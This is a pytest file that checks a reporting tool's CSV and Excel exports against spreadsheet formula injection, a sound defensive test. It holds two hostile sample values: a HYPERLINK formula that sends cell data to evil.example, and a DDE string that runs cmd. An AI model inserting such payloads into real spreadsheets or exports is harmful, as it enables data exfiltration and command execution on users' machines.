"""What is written for a spreadsheet never runs a formula from the data; csv for scripts
stays raw.

A report (or a dataset from another tool) may carry ``=HYPERLINK(...)`` or a DDE call in any
text: ``--format csv-excel`` of every listing, the explorer's exports and the dataset's CSV
copies mark such a cell with an apostrophe, as OWASP recommends, and keep numbers numbers.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polars as pl
import pytest

from barnet_tui.cli.main import main
from barnet_tui.domain.spreadsheet_text import inert_for_spreadsheets, inert_frame
from barnet_tui.domain.storage.generations import current_tables
from barnet_tui.output.export import export_bytes
from tests.conftest import REPORTS, dataset_copy

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
RUNS = re.compile(r"^(?:[\t\r]|\s*[=+\-@＝＋－＠])")
FIGURE = re.compile(r"^[+\-]?\d[\d,]*(?:\.\d+)?%?$")


def _hostile(frame: pl.DataFrame) -> pl.DataFrame:
    """Every indicator named by a DDE call, every comment a link that sends the sheet away."""
    return frame.with_columns(
        (pl.lit(DDE + " ") + pl.col("indicator")).alias("indicator"),
        pl.lit(LINK).alias("comment"),
        (pl.lit("@SUM(1+1) ") + pl.col("service")).alias("service"),
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _would_run(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if RUNS.match(cell) and not FIGURE.match(cell)]


LISTINGS = [
    ["--below-target", "--period", "all"],
    ["changes"],
    ["audit", "--period", "all"],
]


@pytest.mark.parametrize("args", LISTINGS, ids=" ".join)
def test_csv_for_excel_runs_no_formula_from_the_data(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, args: list[str]
) -> None:
    data = dataset_copy(tmp_path, _hostile)
    assert main([*args, "--data", str(data), "--format", "csv-excel"]) == 0
    excel = _rows(capsys.readouterr().out)
    assert len(excel) > 1
    assert _would_run(excel) == []
    cells = {cell for row in excel for cell in row}
    assert any(cell.startswith("'" + DDE) for cell in cells)
    assert main([*args, "--data", str(data), "--format", "csv"]) == 0
    plain = _rows(capsys.readouterr().out)
    assert any(cell.startswith(DDE) for row in plain for cell in row)  # raw for scripts
    assert _each_cell_or_marked(plain, excel)


def _each_cell_or_marked(plain: list[list[str]], excel: list[list[str]]) -> bool:
    """Each cell of the spreadsheet's copy is the script's, or it after an apostrophe."""
    return len(plain) == len(excel) and all(
        e in (p, "'" + p) for prow, erow in zip(plain, excel, strict=True)
        for p, e in zip(prow, erow, strict=True)
    )  # fmt: skip


def test_audit_for_excel_keeps_a_negative_number_a_number(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A number column is written as the number (``-136.8``), not as text."""
    data = dataset_copy(tmp_path, _hostile)
    assert main(["audit", "--period", "all", "--data", str(data), "--format", "csv-excel"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.removeprefix("\ufeff"))))
    percents = [row["percent"] for row in rows if row["percent"].startswith("-")]
    assert percents and all(FIGURE.match(percent) for percent in percents)


def test_the_datasets_csv_copies_run_no_formula(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Ingest's CSV copies (for people, in a spreadsheet) mark a cell that would run; the
    Parquet files, what the tools read, keep the report's words."""
    report = tmp_path / "q4.txt"
    text = (REPORTS / "service-performance-eoy-2016-17.txt").read_text(encoding="utf-8")
    first = next(line for line in text.splitlines() if line.startswith("AC/C12 "))
    cells = first.split("\t")
    cells[1] = DDE
    cells[-1] = LINK
    report.write_text(text.replace(first, "\t".join(cells)), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["ingest", str(report), "--out", str(out)]) == 0
    capsys.readouterr()
    tables = current_tables(out)
    copy = (tables / "indicators.csv").read_text(encoding="utf-8")
    assert _would_run(_rows(copy)) == []
    stored = pl.read_parquet(tables / "indicators.parquet").filter(pl.col("ref") == "AC/C12")
    assert stored["indicator"].to_list() == [DDE]
    assert "'" + DDE in copy


def test_one_rule_for_cells_and_columns() -> None:
    """The explorer's exports (cell by cell) and the frames written whole agree."""
    texts = [
        LINK, DDE, "-491", "-12.5%", "+1,200", "+44 20 7946", "-0.79 (Ranked 24th)", " =1+1",
        "\t=1", "\rx", "@SUM(A1)", "＝1+1", "plain", "", "5 - 3", "'=already",
    ]  # fmt: skip
    frame = inert_frame(pl.DataFrame({"text": texts, "number": range(len(texts))}))
    assert frame["text"].to_list() == [inert_for_spreadsheets(text) for text in texts]
    assert frame["number"].to_list() == list(range(len(texts)))
    assert [text for text in texts if inert_for_spreadsheets(text) == text] == [
        "-491", "-12.5%", "+1,200", "plain", "", "5 - 3", "'=already",
    ]  # fmt: skip


@pytest.mark.parametrize("fmt", ["csv-excel", "xlsx"])
def test_the_explorers_spreadsheet_exports_run_no_formula(tmp_path: Path, fmt: str) -> None:
    headers = ["ref", "result", "comment"]
    content = export_bytes(fmt, headers, [["CG/C1", -491, LINK], ["R/3", 12.5, DDE]])
    if fmt == "xlsx":
        path = tmp_path / "t.xlsx"
        path.write_bytes(content)
        sheet = pl.read_excel(path)
        assert sheet["comment"].to_list() == ["'" + LINK, "'" + DDE]
        assert sheet["result"].to_list() == [-491, 12.5]
    else:
        rows = _rows(content.decode("utf-8"))
        assert rows[1] == ["CG/C1", "-491", "'" + LINK]
